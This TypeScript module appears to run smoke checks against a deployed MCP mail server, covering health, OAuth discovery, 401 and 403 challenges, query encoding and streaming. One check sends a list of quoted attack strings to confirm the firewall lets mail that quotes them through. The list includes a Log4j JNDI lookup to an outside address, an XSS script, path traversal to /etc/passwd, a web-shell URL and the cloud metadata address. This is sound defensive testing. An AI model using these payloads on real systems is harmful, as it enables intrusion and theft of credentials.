/**
 * What an owner can see of a live deployment from outside, one check each. A check answers with what it saw, or throws
 * Problem with what is wrong and where to look. Nothing is sent to a mailbox.
 */

/** What is wrong, in a sentence for the owner. */
export class Problem extends Error {
  override readonly name = 'Problem'
}

export interface Target {
  /** Without a slash at its end. */
  readonly url: string
  /** Of a grant to read; without it what needs one is left out. */
  readonly token?: string
}

export interface Check {
  readonly title: string
  readonly needsToken?: true
  run(target: Target): Promise<string>
}

const timeoutMs = 30_000
/** A stream that is held back arrives when it ends, after 20 seconds. */
const firstByteMs = 10_000

const get = (url: string, init: RequestInit = {}) =>
  fetch(url, { redirect: 'manual', signal: AbortSignal.timeout(timeoutMs), ...init })

async function getJson(url: string): Promise<Record<string, unknown>> {
  const response = await get(url)
  if (response.status !== 200) throw new Problem(`${url} answers ${response.status}, not 200.`)
  try {
    return (await response.json()) as Record<string, unknown>
  } catch {
    throw new Problem(`${url} is not JSON.`)
  }
}

function expectField(document: Record<string, unknown>, name: string, expected: string): void {
  if (document[name] !== expected)
    throw new Problem(
      `\`${name}\` is ${JSON.stringify(document[name])}, not "${expected}": the address that was deployed is another one.`,
    )
}

/** API Gateway renames it on what a function answers. */
function challengeOf(response: Response): { value: string; isRenamed: boolean } {
  const value = response.headers.get('www-authenticate')
  return {
    value: value ?? response.headers.get('x-amzn-remapped-www-authenticate') ?? '',
    isRenamed: value === null,
  }
}

const message = (method: string, params: Record<string, unknown>, id = 1) =>
  JSON.stringify({ jsonrpc: '2.0', id, method, params })

function post({ url, token }: Target, body: string, headers: Record<string, string> = {}): Promise<Response> {
  return get(`${url}/mcp`, {
    method: 'POST',
    body,
    headers: {
      'Content-Type': 'application/json',
      Accept: 'application/json, text/event-stream',
      ...(token !== undefined && { Authorization: `Bearer ${token}` }),
      ...headers,
    },
  })
}

/** Each would be stopped by a rule that must only count, since an email may quote it. */
const quoted: Readonly<Record<string, string>> = {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: It is no template; the attack is written so.
  'a Log4j attack': '${jndi:ldap://203.0.113.9/a}',
  'a Java object': 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
  'a React payload':
    '{"then":"$1:__proto__:then","status":"resolved_model","value":"{\\"then\\":\\"$B0\\"}"}',
  HTML: '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
  'a path': '../../../../etc/passwd',
  'a link to a program': 'http://203.0.113.9/shell.php?cmd=id',
  'the metadata address': 'http://169.254.169.254/latest/meta-data/',
}

export const checks: readonly Check[] = [
  {
    title: 'health',
    async run({ url }) {
      const { status, version } = await getJson(`${url}/health`)
      if (status !== 'ok') throw new Problem(`/health says "${String(status)}".`)
      return `version ${String(version)}`
    },
  },
  {
    title: 'discovery',
    async run({ url }) {
      const resource = await getJson(`${url}/.well-known/oauth-protected-resource/mcp`)
      expectField(resource, 'resource', `${url}/mcp`)
      const server = await getJson(`${url}/.well-known/oauth-authorization-server`)
      expectField(server, 'issuer', url)
      return 'both documents name this address'
    },
  },
  {
    title: 'challenge (401)',
    async run({ url }) {
      const response = await post({ url }, message('ping', {}))
      if (response.status !== 401)
        throw new Problem(`A call without a token answers ${response.status}, not 401.`)
      const { value, isRenamed } = challengeOf(response)
      if (!value.includes(`resource_metadata="${url}/.well-known/oauth-protected-resource`))
        throw new Problem('The 401 has no WWW-Authenticate that leads to the documents.')
      return isRenamed
        ? 'renamed by the gateway (a stage without a domain); clients use the documents'
        : 'in the real header'
    },
  },
  {
    title: '`+` in a query',
    async run({ url }) {
      const redirectUri = 'http://127.0.0.1:8765/callback'
      const clientId = await registerClient(url, redirectUri)
      const query = new URLSearchParams({
        client_id: clientId,
        redirect_uri: redirectUri,
        response_type: 'none',
      })
      const response = await get(`${url}/oauth/authorize?${query}&state=one%2Btwo+three`)
      const location = response.headers.get('location')
      if (location === null)
        throw new Problem(`An authorization request answers ${response.status} without a redirect.`)
      const state = new URL(location).searchParams.get('state')
      if (state !== 'one+two three') throw new Problem(`The state "one+two three" came back as "${state}".`)
      return 'arrives as it was sent'
    },
  },
  {
    title: 'quoted attacks pass the firewall',
    async run({ url }) {
      const stopped: string[] = []
      for (const [what, text] of Object.entries(quoted)) {
        const body = message('tools/call', { name: 'draft_email', arguments: { body: text } })
        if ((await post({ url }, body)).status !== 401) stopped.push(what)
      }
      const long = message('tools/call', { name: 'draft_email', arguments: { body: 'long '.repeat(20_000) } })
      if ((await post({ url }, long)).status !== 401) stopped.push('100 kB')
      if (stopped.length > 0)
        throw new Problem(`A mail that quotes ${stopped.join(', ')} is stopped: see stacks/api/web-acl.ts.`)
      return `${Object.keys(quoted).length} payloads and 100 kB`
    },
  },
  {
    title: 'missing scope (403)',
    needsToken: true,
    async run(target) {
      const meta = {
        'io.modelcontextprotocol/protocolVersion': '2026-07-28',
        'io.modelcontextprotocol/clientInfo': { name: 'smoke', version: '1' },
        'io.modelcontextprotocol/clientCapabilities': {},
      }
      const params = { name: 'mark_as_read', arguments: { ids: ['x'] }, _meta: meta }
      const response = await post(target, message('tools/call', params), {
        'MCP-Protocol-Version': '2026-07-28',
        'Mcp-Method': 'tools/call',
        'Mcp-Name': 'mark_as_read',
      })
      if (response.status !== 403)
        throw new Problem(
          `A write with a token to read answers ${response.status}, not 403: was more granted than reading?`,
        )
      const { value, isRenamed } = challengeOf(response)
      if (!value.includes('insufficient_scope')) throw new Problem('The 403 does not say insufficient_scope.')
      return isRenamed ? 'the gateway renames the header, as expected on AWS' : 'in the real header'
    },
  },
  {
    title: 'first byte of a stream',
    needsToken: true,
    async run(target) {
      const initialize = message('initialize', {
        protocolVersion: '2025-11-25',
        // Who can be asked is offered a stream.
        capabilities: { elicitation: {} },
        clientInfo: { name: 'smoke', version: '1' },
      })
      const session = (await post(target, initialize)).headers.get('mcp-session-id')
      if (session === null) throw new Problem('initialize answers without a session.')
      const headers = { Authorization: `Bearer ${target.token}`, 'Mcp-Session-Id': session }
      const startedAt = performance.now()
      const stream = await get(`${target.url}/mcp`, { headers: { ...headers, Accept: 'text/event-stream' } })
      const reader = stream.body?.getReader()
      await reader?.read()
      const tookMs = performance.now() - startedAt
      await reader?.cancel()
      await get(`${target.url}/mcp`, { method: 'DELETE', headers })
      if (stream.status === 405) return 'this stage answers in one piece'
      if (stream.status !== 200) throw new Problem(`GET /mcp answers ${stream.status}, not a stream.`)
      if (tookMs > firstByteMs) throw new Problem('The stream came in one piece, at its end.')
      return `after ${Math.round(tookMs)} ms`
    },
  },
]

export async function registerClient(url: string, redirectUri: string): Promise<string> {
  const response = await get(`${url}/oauth/register`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({
      client_name: 'smoke',
      redirect_uris: [redirectUri],
      token_endpoint_auth_method: 'none',
    }),
  })
  const { client_id: id } = (await response.json().catch(() => ({}))) as { client_id?: unknown }
  if (response.status !== 201 || typeof id !== 'string')
    throw new Problem(`/oauth/register answers ${response.status}, not a client.`)
  return id
}
